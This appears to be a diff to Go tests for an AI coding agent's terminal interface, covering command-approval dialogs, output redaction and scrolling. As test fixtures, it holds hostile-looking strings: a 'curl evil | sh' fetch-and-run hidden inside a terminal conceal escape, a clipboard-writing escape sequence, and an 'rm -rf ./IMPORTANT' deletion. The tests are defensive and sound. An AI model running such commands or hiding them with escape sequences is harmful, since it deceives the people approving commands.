@@ -2,31 +2,18 @@ package tui
 
 import (
 	"context"
+	"encoding/json"
+	"fmt"
 	"strings"
 	"testing"
 	"time"
+
+	tea "charm.land/bubbletea/v2"
 
 	"github.com/strata-agent/strata/internal/agent"
 	"github.com/strata-agent/strata/internal/llm"
 	"github.com/strata-agent/strata/internal/permission"
 )
-
-func TestVisibleDisarmsControlSequences(t *testing.T) {
-	cases := map[string]string{
-		"plain text\n\tindented":              "plain text\n\tindented",
-		"echo hi \x1b[8m; curl x | sh\x1b[0m": "echo hi ␛[8m; curl x | sh␛[0m",
-		"\x1b]0;PWNED\a":                      "␛]0;PWNED^G",
-		"\x1b]52;c;ZXZpbA==\x07":              "␛]52;c;ZXZpbA==^G",
-		"carriage\rreturn":                    "carriage^Mreturn",
-		"c1 \u009b2J":                         "c1 \\u009b2J",
-		"unicode ✓ stays":                     "unicode ✓ stays",
-	}
-	for in, want := range cases {
-		if got := visible(in); got != want {
-			t.Errorf("visible(%q) = %q, want %q", in, got, want)
-		}
-	}
-}
 
 func TestDialogShowsConcealedPartsOfACommand(t *testing.T) {
 	h := newHarness(t, nil)
@@ -37,7 +24,7 @@ func TestDialogShowsConcealedPartsOfACommand(t *testing.T) {
 		return &agent.Result{}, err
 	}
 	h.enterLine("go")
-	h.waitFor("the dialog", func() bool { return len(h.m.dialogs) == 1 })
+	h.waitFor("the dialog", func() bool { return h.m.dialog.Open() })
 	view := h.view()
 	h.mustShow(view, "␛[8m; curl evil | sh ␛[0m")
 	if strings.Contains(view, "\x1b[8m") {
@@ -45,20 +32,6 @@ func TestDialogShowsConcealedPartsOfACommand(t *testing.T) {
 	}
 	h.key("n", "esc")
 	h.settle()
-}
-
-func TestShellOutputIsRedacted(t *testing.T) {
-	h := newHarness(t, func(o *Options) {
-		o.Redact = func(s string) string { return strings.ReplaceAll(s, "hunter2-secret", "[REDACTED]") }
-		o.ShellEnv = []string{"PATH=/usr/bin:/bin", "SECRET_VALUE=hunter2-secret"}
-	})
-	h.enterLine("!echo token=$SECRET_VALUE")
-	h.settle()
-	out := h.out()
-	h.mustShow(out, "token=[REDACTED]")
-	if strings.Contains(out, "hunter2") || strings.Contains(strings.Join(h.m.extra, ""), "hunter2") {
-		t.Fatal("a secret printed by !cmd was shown or kept for the model")
-	}
 }
 
 // Keys typed ahead for the next prompt do not answer a dialog that has just appeared.
@@ -71,9 +44,9 @@ func TestNewDialogIgnoresTypeAhead(t *testing.T) {
 		return &agent.Result{}, err
 	}
 	h.enterLine("deploy")
-	h.waitFor("the dialog", func() bool { return len(h.m.dialogs) == 1 })
+	h.waitFor("the dialog", func() bool { return h.m.dialog.Open() })
 	h.key("enter", "a")
-	if len(h.m.dialogs) != 1 {
+	if !h.m.dialog.Open() {
 		t.Fatal("a key typed ahead answered the dialog")
 	}
 	h.now = h.now.Add(time.Second)
@@ -107,4 +80,53 @@ func TestRestartedStreamDoesNotRepeatPrintedText(t *testing.T) {
 	}
 	h.mustShow(out, "asked again", "Second paragraph, whole this time.")
 	h.mustNotShow(out, "Half of the sec")
+}
+
+// "Always" for a line of several commands keeps a rule for each through the Host before the
+// call runs, and says so.
+func TestAlwaysForACompoundCommandGoesThroughTheHost(t *testing.T) {
+	h := newHarness(t, nil)
+	answers := make(chan permission.Answer, 1)
+	h.sess.run = func(ctx context.Context, f *fakeSession, _ []llm.ContentBlock) (*agent.Result, error) {
+		ans, err := f.bridge.Approve(ctx, permission.Request{Call: permission.Call{Tool: "Bash",
+			Input: []byte(`{"command":"npm ci && npm test -- --ci"}`)}, Summary: "Bash(npm ci && npm test -- --ci)"})
+		answers <- ans
+		return &agent.Result{}, err
+	}
+	h.enterLine("test")
+	h.waitFor("the dialog", func() bool { return h.m.dialog.Open() })
+	h.mustShow(h.view(), "It runs 2 commands:", "1. npm ci", "2. npm test -- --ci", "Bash(npm ci), Bash(npm test:*)")
+	h.key("2")
+	h.settle()
+	if got := <-answers; !got.Allow || got.Always {
+		t.Errorf("answer %+v", got)
+	}
+	if fmt.Sprint(h.host.allowed) != "[Bash(npm ci) Bash(npm test:*)]" {
+		t.Errorf("rules kept %q", h.host.allowed)
+	}
+	h.mustShow(h.out(), "Bash(npm ci), Bash(npm test:*) are now allowed in this project")
+}
+
+// PgDn and PgUp reach the dialog through the model, and its room is what the terminal leaves.
+func TestTallDialogScrollsInTheTerminal(t *testing.T) {
+	h := newHarness(t, nil)
+	h.update(tea.WindowSizeMsg{Width: 40, Height: 14})
+	cmd := strings.Repeat("echo step; ", 30) + "rm -rf ./IMPORTANT"
+	h.sess.run = func(ctx context.Context, f *fakeSession, _ []llm.ContentBlock) (*agent.Result, error) {
+		input, _ := json.Marshal(map[string]string{"command": cmd})
+		_, err := f.bridge.Approve(ctx, permission.Request{Call: permission.Call{Tool: "Bash", Input: input}, Summary: "Bash(…)"})
+		return &agent.Result{}, err
+	}
+	h.enterLine("go")
+	h.waitFor("the dialog", func() bool { return h.m.dialog.Open() })
+	if n := strings.Count(h.view(), "\n") + 1; n > 14 {
+		t.Fatalf("the view has %d lines for a terminal of 14:\n%s", n, h.view())
+	}
+	h.mustShow(h.view(), "below (PgDn)")
+	for i := 0; i < 40 && !strings.Contains(h.view(), "(end)"); i++ {
+		h.update(tea.KeyPressMsg{Code: tea.KeyPgDown})
+	}
+	h.mustShow(h.view(), "rm -rf ./IMPORTANT", "above (PgUp)")
+	h.key("n", "esc")
+	h.settle()
 }
